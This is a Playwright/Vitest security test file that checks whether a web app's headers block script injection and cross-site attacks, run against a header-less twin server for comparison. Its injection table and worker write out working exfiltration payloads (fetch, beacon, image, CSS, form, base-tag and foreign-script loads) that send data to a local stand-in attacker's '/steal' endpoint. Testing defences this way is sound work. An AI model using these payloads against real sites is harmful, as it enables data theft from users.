/**
 * Cases W2 and B6 in a real Chromium. The attacker has found a way to put markup or script into our page, or lures a browser to
 * a page of his own while ours runs. What he tries is the same against our server and against its twin, which serves the
 * same files without our headers: there every attempt works, here none does.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { removeData, startServer, type TestServer } from '@pellicle/server/testing/start-server'
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

const HTML =
  '<!doctype html><html><head><title>ours</title></head><body><script src="./assets/main-abcd1234.js"></script></body></html>'
/** Our own script: alive, and it offers a worker as the product does. */
const SCRIPT = `
  window.ours = true
  const maker = window.trustedTypes
  const policy = maker ? maker.createPolicy('pellicle', { createScriptURL: (a) => a }) : { createScriptURL: (a) => a }
  window.startWorker = () => new Promise((resolve, reject) => {
    const worker = new Worker(policy.createScriptURL('./assets/worker-abcd1234.js'))
    worker.onmessage = (event) => resolve(event.data)
    worker.onerror = () => reject(new Error('no worker'))
  })
`
/** The worker tries to carry something off; it answers what the browser let it do. */
const WORKER = `
  const tries = { wasm: () => WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])), fetch: () => fetch('ATTACKER/steal?from=worker', { mode: 'no-cors' }), eval: async () => eval('1') }
  const done = {}
  Promise.all(Object.entries(tries).map(([name, act]) => act().then(() => { done[name] = true }, () => { done[name] = false }))).then(() => postMessage(done))
`

let ours: TestServer
let twin: Server
let attacker: Server
let browser: Browser
let context: BrowserContext | undefined
let [twinUrl, attackerUrl] = ['', '']
/** What reached the attacker. */
const stolen: string[] = []

beforeAll(async () => {
  attacker = createServer((incoming, outgoing) => {
    stolen.push(incoming.url ?? '')
    outgoing.setHeader('access-control-allow-origin', '*')
    outgoing.setHeader('cross-origin-resource-policy', 'cross-origin')
    if (incoming.url?.endsWith('.js'))
      outgoing.setHeader('content-type', 'text/javascript').end('window.foreign = true')
    else outgoing.setHeader('content-type', 'text/html').end('<!doctype html><title>bait</title>')
  })
  attackerUrl = await listen(attacker)
  const worker = WORKER.replace('ATTACKER', attackerUrl)
  const pages = mkdtempSync(join(tmpdir(), 'pellicle-attack-'))
  mkdirSync(join(pages, 'assets'))
  writeFileSync(join(pages, 'index.html'), HTML)
  writeFileSync(join(pages, 'assets', 'main-abcd1234.js'), SCRIPT)
  writeFileSync(join(pages, 'assets', 'worker-abcd1234.js'), worker)
  ours = await startServer({ pages })
  twin = createServer((incoming, outgoing) => {
    const script = incoming.url?.endsWith('.js') === true
    outgoing.setHeader('content-type', script ? 'text/javascript' : 'text/html')
    if (incoming.url?.startsWith('/api')) outgoing.end('patients')
    else outgoing.end(!script ? HTML : incoming.url?.includes('worker') ? worker : SCRIPT)
  })
  twinUrl = await listen(twin)
  browser = await chromium.launch({
    executablePath: process.env.PELLICLE_CHROMIUM ?? chromium.executablePath(),
    args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking'],
  })
})
afterAll(async () => {
  await browser?.close()
  for (const server of [attacker, twin]) server?.close()
  await ours?.stop()
  if (ours) removeData(ours)
})

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return `http://localhost:${(server.address() as AddressInfo).port}`
}

async function open(address: string): Promise<Page> {
  context ??= await browser.newContext()
  const page = await context.newPage()
  await page.goto(address)
  return page
}

/** Each answers whether it worked. `run` is code that some hole let in (as evaluate is not bound by the page's policy, it only plants). */
const INJECTIONS: Record<string, (attacker: string) => Promise<boolean>> = {
  'markup with an event handler': async () => {
    const box = document.createElement('div')
    document.body.append(box)
    const image = document.createElement('img')
    try {
      image.setAttribute('onerror', 'window.injected = 1')
    } catch {
      return false
    }
    image.src = 'data:,'
    box.append(image)
    await new Promise((resolve) => setTimeout(resolve, 200))
    return 'injected' in window
  },
  'a string as markup': async () => {
    try {
      document.body.insertAdjacentHTML('beforeend', '<b id="markup">x</b>')
    } catch {
      return false
    }
    return document.getElementById('markup') !== null
  },
  'an inline script': async () => {
    const script = document.createElement('script')
    script.append('window.inline = 1')
    document.body.append(script)
    await new Promise((resolve) => setTimeout(resolve, 100))
    return 'inline' in window
  },
  'a script from elsewhere': async (attacker) => {
    const script = document.createElement('script')
    try {
      script.src = `${attacker}/evil.js`
    } catch {
      return false
    }
    return new Promise((resolve) => {
      script.onload = () => resolve(true)
      script.onerror = () => resolve(false)
      document.body.append(script)
    })
  },
  'an import from elsewhere': (attacker) => {
    // Written as text, so that the test's own bundler leaves the import alone. Evaluate is not bound by the page's policy; what it imports is.
    const load = new Function('address', 'return import(address)') as (address: string) => Promise<unknown>
    return load(`${attacker}/evil.js`).then(
      () => true,
      () => false,
    )
  },
  'code made from text': async () => {
    const timer = globalThis as unknown as { setTimeout(code: string): void }
    try {
      timer.setTimeout('window.timed = 1')
    } catch {
      return false
    }
    await new Promise((resolve) => setTimeout(resolve, 100))
    return 'timed' in window
  },
  'a request that carries data away': (attacker) =>
    fetch(`${attacker}/steal?from=fetch`, { mode: 'no-cors' }).then(
      () => true,
      () => false,
    ),
  // The browser says yes before it asks its policy: what arrived decides.
  'a beacon': async (attacker) => {
    navigator.sendBeacon(`${attacker}/steal?from=beacon`, 'x')
    return false
  },
  'a picture that carries data away': (attacker) =>
    new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true })
      const image = new Image()
      image.onload = image.onerror = () => setTimeout(() => resolve(true), 50)
      image.src = `${attacker}/steal?from=image`
    }),
  'a style that carries data away': (attacker) =>
    new Promise((resolve) => {
      const style = document.createElement('style')
      style.append(`body { background: url("${attacker}/steal?from=style") }`)
      document.head.append(style)
      setTimeout(() => resolve(getComputedStyle(document.body).backgroundImage !== 'none'), 200)
    }),
  'a form that carries data away': (attacker) =>
    new Promise((resolve) => {
      const form = document.createElement('form')
      form.action = `${attacker}/steal?from=form`
      form.target = 'hidden'
      const frame = document.createElement('iframe')
      frame.name = 'hidden'
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true })
      document.body.append(frame, form)
      form.submit()
      setTimeout(() => resolve(true), 500)
    }),
  'another base for our addresses': async (attacker) => {
    const base = document.createElement('base')
    base.href = `${attacker}/`
    document.head.append(base)
    return document.baseURI.startsWith(attacker)
  },
  'a frame inside our page': (attacker) =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe')
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true })
      frame.onload = () => setTimeout(() => resolve(true), 50)
      frame.src = `${attacker}/frame`
      document.body.append(frame)
    }),
}

/** It did what it wanted, or something reached the attacker. */
async function works(page: Page, act: (attacker: string) => Promise<boolean>): Promise<boolean> {
  stolen.length = 0
  const done = await page.evaluate(act, attackerUrl)
  await page.waitForTimeout(200)
  return done || stolen.length > 0
}

describe('script or markup inside our page', () => {
  it.each(Object.keys(INJECTIONS))('%s', async (name) => {
    const act = INJECTIONS[name] as (attacker: string) => Promise<boolean>
    const [here, there] = await Promise.all([open(ours.url), open(twinUrl)])
    expect(await works(here, act)).toBe(false)
    expect(await works(there, act)).toBe(true)
    expect(await here.evaluate(() => 'ours' in window)).toBe(true)
    await Promise.all([here.close(), there.close()])
  })

  it('does not stop our own script and worker, and binds the worker too', async () => {
    const quiet = await (await browser.newContext()).newPage()
    const said: string[] = []
    quiet.on('console', (message) => said.push(message.text()))
    await quiet.goto(ours.url)
    expect(said).toEqual([])
    await quiet.context().close()
    const [here, there] = await Promise.all([open(ours.url), open(twinUrl)])
    const start = () => (window as unknown as { startWorker(): Promise<object> }).startWorker()
    stolen.length = 0
    expect(await here.evaluate(start)).toEqual({ wasm: true, fetch: false, eval: false })
    expect(stolen).toEqual([])
    expect(await there.evaluate(start)).toEqual({ wasm: true, fetch: true, eval: true })
    await Promise.all([here.close(), there.close()])
  })
})

describe('a page of somebody else', () => {
  const read = (address: string) =>
    fetch(`${address}/api/status`).then(
      (reply) => reply.text(),
      () => null,
    )
  const blind = (address: string) =>
    fetch(`${address}/api/setup/offer`, { method: 'POST', mode: 'no-cors', body: '{}' }).then(
      () => true,
      () => false,
    )
  const framed = (address: string) =>
    new Promise<boolean>((resolve) => {
      const frame = document.createElement('iframe')
      frame.src = address
      frame.onload = () => {
        // Another site's document throws; a refused frame is an empty document of nobody.
        setTimeout(() => resolve(frame.contentWindow?.length !== undefined), 50)
      }
      document.body.append(frame)
    })
  const script = (address: string) =>
    new Promise<boolean>((resolve) => {
      const element = document.createElement('script')
      element.onload = () => resolve(true)
      element.onerror = () => resolve(false)
      element.src = `${address}/assets/main-abcd1234.js`
      document.body.append(element)
    })
  const handle = async (address: string) => {
    const other = window.open(address)
    await new Promise((resolve) => setTimeout(resolve, 500))
    return other !== null && !other.closed
  }

  it('reads nothing, loads nothing, holds no handle', async () => {
    const page = await open(`${attackerUrl}/bait`)
    expect(await page.evaluate(read, ours.url)).toBeNull()
    expect(await page.evaluate(script, ours.url)).toBe(false)
    expect(await page.evaluate(handle, ours.url)).toBe(false)
    await page.evaluate(blind, ours.url)
    await page.evaluate(framed, ours.url)
    const inside = page.frames().filter((frame) => frame !== page.mainFrame())
    for (const frame of inside) expect(await frame.evaluate(() => 'ours' in window).catch(() => false)).toBe(false)
    await page.close()
    // Nothing of it was let in: all were refused at the door.
    await ours.stop()
    expect(ours.log()).toContain('"code":"WRONG_HOST"')
    expect(ours.log()).not.toContain('"route":"/api/setup/offer"')
  })

  it('twin: loads, frames and holds', async () => {
    const page = await open(`${attackerUrl}/bait`)
    expect(await page.evaluate(script, twinUrl)).toBe(true)
    expect(await page.evaluate(handle, twinUrl)).toBe(true)
    await page.evaluate(framed, twinUrl)
    const inside = page.frames().filter((frame) => frame !== page.mainFrame())
    expect(await Promise.all(inside.map((frame) => frame.evaluate(() => 'ours' in window)))).toContain(true)
    await page.close()
  })
})
